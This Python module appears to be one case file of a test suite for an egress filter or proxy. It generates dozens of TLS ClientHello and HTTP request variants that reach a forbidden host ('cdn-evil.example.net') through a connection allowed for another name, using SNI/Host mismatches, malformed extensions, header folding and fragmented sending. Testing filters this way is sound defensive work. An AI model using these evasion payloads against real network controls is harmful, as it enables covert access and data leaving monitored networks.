"""E-08: a connection that was allowed for one name, and bytes in it for another. Both names have one address, as at a
CDN; a server that is lenient takes the second.
"""
import threading

import hello
import way
import wire
from attack import SEEN, Attack

NAME, OTHER = "cdn-allowed.example.com", "cdn-evil.example.net"


def tls_request(kind, sni, mark, host=None, send=None):
    return hello.get(way.WAYS[kind](NAME, 443), sni, mark, host or sni or OTHER, send)


def slowly(sock, data, pause_s=0.004):
    for i in range(len(data)):
        sock.sendall(data[i:i + 1])
        threading.Event().wait(pause_s)


def in_records(sock, data):
    sock.sendall(hello.cut(data[5:], 7))


def in_segments(sock, data):
    for i in range(0, len(data), 40):
        sock.sendall(data[i:i + 40])
        threading.Event().wait(0.05)


def torn(bytes_of):
    """What no client would say; its mark is in a name."""
    def send(mark):
        data = bytes_of(f"{mark}.{OTHER}")
        return way.say(way.tcp(NAME, 443), data)
    return send


# How a hello is made that names two hosts, or none that can be read. The mark is in it.
HELLOS = (
    ("two-extensions", "two server_name extensions", lambda n: hello.cut(hello.with_names(hello.names(NAME), hello.names(n)), 9999)),
    ("two-extensions-turned", "the same in the other order",
     lambda n: hello.cut(hello.with_names(hello.names(n), hello.names(NAME)), 9999)),
    ("two-names", "two names in one extension", lambda n: hello.cut(hello.with_names(hello.names(NAME, n)), 9999)),
    ("two-kinds", "a second name of another type", lambda n: hello.cut(hello.with_names(hello.names(NAME, (1, n))), 9999)),
    ("nul", "a NUL in the name", lambda n: hello.cut(hello.with_names(hello.names(f"{NAME}\0.{n}")), 9999)),
    ("rest", "bytes behind the name", lambda n: hello.cut(hello.with_names(hello.names(NAME) + wire.raw(n)), 9999)),
    ("behind", "a second hello in the same record",
     lambda n: hello.record(hello.with_names(hello.names(NAME)) + hello.with_names(hello.names(n)))),
    ("alert-first", "a warning before the hello", lambda n: hello.record(b"\1\0", 21) + hello.of(n)),
    ("heartbeat-first", "a heartbeat before the hello", lambda n: hello.record(b"\1\0\0", 24) + hello.of(n)),
    ("empty-record", "an empty record before the hello", lambda n: hello.record(b"") + hello.of(n)),
    ("long-record", "a record of more than 16 KiB",
     lambda n: hello.record(hello.with_names(hello.names(n)) + bytes(17000))),
    ("version", "version 9 in the record", lambda n: b"\x16\x09" + hello.of(n)[2:]),
    ("trailing-dot", "the other name with a dot", lambda n: hello.cut(hello.with_names(hello.names(n + ".")), 9999)),
    ("upper", "the other name in capital letters", lambda n: hello.cut(hello.with_names(hello.names(n.upper())), 9999)),
)


def by_tls():
    for kind in way.WAYS:
        yield Attack(f"e08-sni-{kind}", f"the SNI of another host, by {kind}", lambda m, k=kind: tls_request(k, f"{m}.{OTHER}", m))
        yield Attack(f"e08-no-sni-{kind}", f"no SNI, by {kind}", lambda m, k=kind: tls_request(k, None, m))
    for key, text, send in (("records", "cut into records", in_records), ("slow", "byte after byte", slowly),
                            ("segments", "in pieces with pauses", in_segments)):
        yield Attack(f"e08-sni-{key}", f"the SNI of another host, {text}",
                     lambda m, s=send: tls_request("tcp", f"{m}.{OTHER}", m, send=s))
        yield Attack(f"e08-honest-{key}", f"the SNI of the allowed host, {text}",
                     lambda m, s=send: tls_request("tcp", NAME, m, send=s), answer=SEEN)
    for key, text, bytes_of in HELLOS:
        yield Attack(f"e08-hello-{key}", text, torn(bytes_of))


def plain(kind, data):
    return way.say(way.WAYS[kind](NAME, 80), data)


def get(mark, host=OTHER, *lines, **rest):
    return wire.head(f"/{mark}", host, "Connection: close", *lines, **rest)


def preface(mark, minor):
    """With a field that it does not have: the servers of the world log heads."""
    return b"PRI * HTTP/2.%d\r\nX: %s\r\n\r\nSM\r\n\r\n" % (minor, mark.encode()) + bytes(9)


# Heads for the other host, and ways to hide that they are heads or whom they name.
HEADS = (
    ("host", "Host of another", get),
    ("two-hosts", "two Hosts", lambda m: get(m, NAME, f"Host: {OTHER}")),
    ("two-hosts-turned", "two Hosts in the other order", lambda m: get(m, OTHER, f"Host: {NAME}")),
    ("absolute", "a target in absolute form", lambda m: wire.head(f"http://{OTHER}/{m}", NAME, "Connection: close")),
    ("absolute-host", "the same, and Host of the other", lambda m: wire.head(f"http://{NAME}/{m}", OTHER, "Connection: close")),
    ("userinfo", "Host with a user's name", lambda m: get(m, f"{NAME}@{OTHER}")),
    ("port", "Host with another's port", lambda m: get(m, f"{OTHER}:80")),
    ("fold", "Host continued on a new line", lambda m: get(m, f"\r\n {OTHER}")),
    ("space-colon", "a space before the colon", lambda m: get(m, None, f"Host : {OTHER}")),
    ("no-host", "no Host", lambda m: get(m, None)),
    ("http10", "HTTP/1.0 and no Host", lambda m: get(m, None, version="HTTP/1.0")),
    ("bare-lf", "lines that end in LF alone", lambda m: get(m).replace(b"\r\n", b"\n") + b"\r\n\r\n"),
    ("empty-line", "an empty line before the request", lambda m: b"\r\n" + get(m)),
    ("empty-lines", "an empty line, and the request later", lambda m: [b"\r\n", get(m)]),
    ("leading-space", "a space before the method", lambda m: b" " + get(m)),
    ("two-spaces", "two spaces before the target", lambda m: get(m).replace(b"GET ", b"GET  ")),
    ("tab", "a tab before the target", lambda m: get(m).replace(b"GET ", b"GET\t")),
    ("lower", "a method in small letters", lambda m: get(m, method="get")),
    ("odd-method", "a method that is a token with marks", lambda m: get(m, method="G!T")),
    ("digit-method", "a method with a digit", lambda m: get(m, method="GET2")),
    ("long-method", "a method of 40 letters", lambda m: get(m, method="G" * 40)),
    ("odd-target", "a target of another scheme", lambda m: wire.head(f"x://{OTHER}/{m}", OTHER)),
    ("star-target", "a target that is a word", lambda m: wire.head(m, OTHER)),
    ("byte-first", "the first byte alone", lambda m: [get(m)[:1], get(m)[1:]]),
    ("bytes", "in small pieces", lambda m: [get(m)[i:i + 9] for i in range(0, len(get(m)), 9)]),
    ("http2", "HTTP/2 without TLS", lambda m: preface(m, 0)),
    ("http2-other", "a later HTTP/2", lambda m: preface(m, 1)),
    ("http3", "a version of HTTP that is none yet", lambda m: get(m, version="HTTP/3.0")),
    ("huge", "Host behind 70 KB of other fields",
     lambda m: wire.head(f"/{m}", None, *[f"X-{i}: {'x' * 1000}" for i in range(70)], f"Host: {OTHER}")),
)


def by_host():
    for kind in way.WAYS:
        for key, text, bytes_of in HEADS:
            if kind != "tcp" and key not in ("host", "absolute", "empty-line", "two-spaces", "http2"):
                continue
            yield Attack(f"e08-{key}-{kind}", f"{text}, by {kind}", lambda m, k=kind, b=bytes_of: pieces(k, b(m)))
    yield Attack("e08-absolute-mismatch", "a proxy is asked for one host, Host is another",
                 lambda m: way.absolute(NAME, m, named=OTHER))


def pieces(kind, data):
    return way.say(way.WAYS[kind](NAME, 80), *([data] if isinstance(data, bytes) else data), pause_s=0.05)


ATTACKS = [*by_tls(), *by_host()]
